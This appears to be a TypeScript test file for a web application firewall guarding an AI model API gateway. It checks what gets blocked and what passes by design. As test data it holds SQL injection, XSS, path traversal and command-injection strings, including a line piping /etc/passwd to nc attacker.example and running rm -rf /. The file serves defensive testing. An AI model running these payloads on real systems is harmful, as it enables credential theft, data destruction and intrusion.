import { CONSUMER_KEYS } from '../harness';
import { type ModelWafGateway, onlyGuarded, startModelWafGateway } from './support/model-gateway';
import { type RawSpec, sendRaw } from './support/raw-send';
import { type Answer, BLOCK_ALL, expectWafRefusal } from './support/waf-gateway';

/**
 * The "contract that outside checks will rely on", one clause at a time, through the real server: what is
 * inspected by default on a model route (each a 403, and 200 without the attack), what is not flagged by default,
 * and the order (inspection before endpoint, model and key lookup, so that an attack is a 403 wherever it lands).
 */

let g: ModelWafGateway;
beforeAll(async () => {
  g = await startModelWafGateway(BLOCK_ALL);
});
afterAll(() => g.close());

const AUTH = { authorization: `Bearer ${CONSUMER_KEYS.alice}` };
const JSON_TYPE = { 'content-type': 'application/json' };
const chatBody = (extra: Record<string, unknown> = {}) => ({ model: 'gpt-4o', messages: [{ role: 'user', content: 'Say hello.' }], ...extra });

/** A chat completion request, with `change` applied to its parts. */
function chat(change: Partial<RawSpec> & { extraHeaders?: Record<string, string> } = {}): RawSpec {
  const { extraHeaders, ...rest } = change;
  return { method: 'POST', rawPath: '/v1/chat/completions', headers: { ...AUTH, ...JSON_TYPE, 'user-agent': 'OpenAI/JS 6.30.1', ...extraHeaders }, body: chatBody(), ...rest };
}

const send = (spec: RawSpec): Promise<Answer> => sendRaw(g.gw.url, spec);

/** Refused by the WAF with a rule of `family`. */
async function expectBlocked(spec: RawSpec, family: string, payload?: string): Promise<void> {
  const answer = await send(spec);
  const { rules } = expectWafRefusal(answer, payload ? [payload] : []);
  expect(rules.join(',')).toContain(`${family}-`);
}

async function expectServed(spec: RawSpec): Promise<void> {
  const answer = await send(spec);
  expect({ status: answer.status, body: answer.body.slice(0, 300) }).toEqual({ status: 200, body: expect.any(String) });
}

describe('inspected by default on a model route', () => {
  test('the control request, as the tests below change it, is served', async () => {
    await expectServed(chat());
    await expectServed(chat({ rawPath: '/v1/chat/completions?tag=weekly-report' }));
  });

  test('decoded query values: percent-encoded and double-encoded', async () => {
    await expectBlocked(chat({ rawPath: '/v1/chat/completions?tag=%27%20OR%20%271%27%3D%271' }), 'sqli', "' OR '1'='1");
    await expectBlocked(chat({ rawPath: '/v1/chat/completions?tag=%2527%2520OR%2520%25271%2527%253D%25271' }), 'sqli');
    await expectBlocked(chat({ rawPath: '/v1/chat/completions?tag=%253Cscript%253Ealert(1)%253C%252Fscript%253E' }), 'xss');
  });

  test('the path: raw dot-segments, encoded dot-segments and overlong UTF-8 (%c0%ae)', async () => {
    await expectBlocked(chat({ rawPath: '/v1/../../../etc/passwd' }), 'traversal');
    await expectBlocked(chat({ rawPath: '/v1/%2e%2e/%2e%2e/%2e%2e/etc/passwd' }), 'traversal');
    await expectBlocked(chat({ rawPath: '/v1/%252e%252e%252f%252e%252e%252fetc/passwd' }), 'traversal');
    await expectBlocked(chat({ rawPath: '/v1/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd' }), 'traversal');
  });

  test('User-Agent, Referer, X-Forwarded-For and cookie values', async () => {
    await expectBlocked(chat({ extraHeaders: { 'user-agent': '<script>alert(1)</script>' } }), 'xss');
    await expectBlocked(chat({ extraHeaders: { referer: "https://example.com/?id=1' UNION SELECT password FROM users--" } }), 'sqli');
    await expectBlocked(chat({ extraHeaders: { 'x-forwarded-for': "203.0.113.7, 1' OR '1'='1" } }), 'sqli');
    await expectBlocked(chat({ extraHeaders: { cookie: 'session=abc; pref=%3Csvg%20onload%3Dalert(1)%3E' } }), 'xss');
  });

  test('non-message body fields: `user` and `metadata`', async () => {
    await expectBlocked(chat({ body: chatBody({ user: '; cat /etc/passwd' }) }), 'cmdi');
    await expectBlocked(chat({ body: chatBody({ metadata: { ticket: '<iframe src=javascript:alert(1)>' } }) }), 'xss');
    await expectServed(chat({ body: chatBody({ user: 'user-1234', metadata: { ticket: 'T-42' } }) }));
  });
});

describe('not flagged by default on a model route', () => {
  const SQL = "SELECT * FROM users WHERE name = '' OR '1'='1' --; DROP TABLE users;";
  const SHELL = '; cat /etc/passwd | nc attacker.example 4444 && rm -rf / `id` $(whoami)';
  const HTML = '<script>alert(document.cookie)</script><img src=x onerror=alert(1)>';
  const PATHS = '../../../../etc/passwd and C:\\Windows\\system32\\config\\sam';

  test('message text as a string, of every role', async () => {
    const messages = [
      { role: 'system', content: SQL },
      { role: 'user', content: SHELL },
      { role: 'assistant', content: HTML },
      { role: 'user', content: PATHS },
    ];
    await expectServed(chat({ body: { model: 'gpt-4o', messages } }));
  });

  test('message text as parts, of user and tool messages', async () => {
    const messages = [
      { role: 'user', content: [{ type: 'text', text: SQL }, { type: 'text', text: HTML }] },
      { role: 'assistant', content: null, tool_calls: [{ id: 'call_1', type: 'function', function: { name: 'run', arguments: JSON.stringify({ cmd: 'ls' }) } }] },
      { role: 'tool', tool_call_id: 'call_1', content: [{ type: 'text', text: SHELL }] },
    ];
    await expectServed(chat({ body: { model: 'gpt-4o', messages } }));
  });

  test('completions `prompt`, embeddings `input`, Responses `input` and `instructions`', async () => {
    await expectServed({ ...chat(), rawPath: '/v1/completions', body: { model: 'gpt-3.5-turbo-instruct', prompt: `${SQL}\n${SHELL}` } });
    await expectServed({ ...chat(), rawPath: '/v1/embeddings', body: { model: 'text-embedding-3-small', input: [SQL, HTML, PATHS] } });
    await expectServed({ ...chat(), rawPath: '/v1/responses', body: { model: 'gpt-4o', instructions: HTML, input: [{ role: 'user', content: [{ type: 'input_text', text: SHELL }] }] } });
  });

  test('`tools` schemas and `response_format`', async () => {
    const tools = [{ type: 'function', function: { name: 'run_sql', description: `Runs SQL such as ${SQL}`, parameters: { type: 'object', properties: { query: { type: 'string', description: HTML } } } } }];
    const responseFormat = { type: 'json_schema', json_schema: { name: 'page', schema: { type: 'object', properties: { html: { type: 'string', description: HTML, pattern: '^<script>.*$' } } } } };
    await expectServed(chat({ body: chatBody({ tools, response_format: responseFormat }) }));
  });

  test("the official SDKs', browsers' and curl's User-Agents", async () => {
    for (const agent of ['OpenAI/JS 6.30.1', 'OpenAI/Python 1.109.1', 'Anthropic/JS 0.68.0', 'AsyncAnthropic/Python 0.71.0', 'curl/8.5.0', 'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0']) {
      await expectServed(chat({ extraHeaders: { 'user-agent': agent } }));
    }
  });
});

describe('inspection comes before the endpoint, the model and the key are looked up', () => {
  let only: ModelWafGateway;
  beforeAll(async () => {
    only = await startModelWafGateway(BLOCK_ALL, {}, onlyGuarded);
  });
  afterAll(() => only.close());

  test('a path no route serves: 404 without the attack, 403 with it (in the path, the query or a header)', async () => {
    const plain = await sendRaw(only.gw.url, chat({ rawPath: '/nothing/here' }));
    expect(plain.status).toBe(404);
    for (const attack of [
      chat({ rawPath: '/nothing/../../etc/passwd' }),
      chat({ rawPath: '/nothing/here?id=1%27%20UNION%20SELECT%20password%20FROM%20users--' }),
      chat({ rawPath: '/nothing/here', extraHeaders: { 'user-agent': '<script>alert(1)</script>' } }),
    ]) {
      expectWafRefusal(await sendRaw(only.gw.url, attack));
    }
  });

  test('an endpoint the route does not serve: 404 without the attack, 403 with it', async () => {
    expect((await send(chat({ rawPath: '/v1/not-an-endpoint' }))).status).toBe(404);
    expectWafRefusal(await send(chat({ rawPath: '/v1/not-an-endpoint?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E' })));
  });

  test('an unknown model: 404 without the attack, 403 with an attack in the body', async () => {
    const unknown = await send(chat({ body: chatBody({ model: 'no-such-model' }) }));
    expect(unknown.status).toBe(404);
    expectWafRefusal(await send(chat({ body: chatBody({ model: 'no-such-model', user: "admin' OR 1=1--" }) })));
  });

  test('no key or a wrong key: 401 without the attack, 403 with it', async () => {
    const anonymous = (spec: RawSpec, key?: string): RawSpec => ({ ...spec, headers: { ...JSON_TYPE, 'user-agent': 'curl/8.5.0', ...(key && { authorization: `Bearer ${key}` }) } });
    expect((await send(anonymous(chat()))).status).toBe(401);
    expect((await send(anonymous(chat(), 'sk-wrong'))).status).toBe(401);
    expectWafRefusal(await send(anonymous(chat({ rawPath: '/v1/chat/completions?q=%27%20OR%201%3D1--' }))));
    expectWafRefusal(await send(anonymous(chat({ rawPath: '/v1/chat/completions?q=%27%20OR%201%3D1--' }), 'sk-wrong')));
  });
});
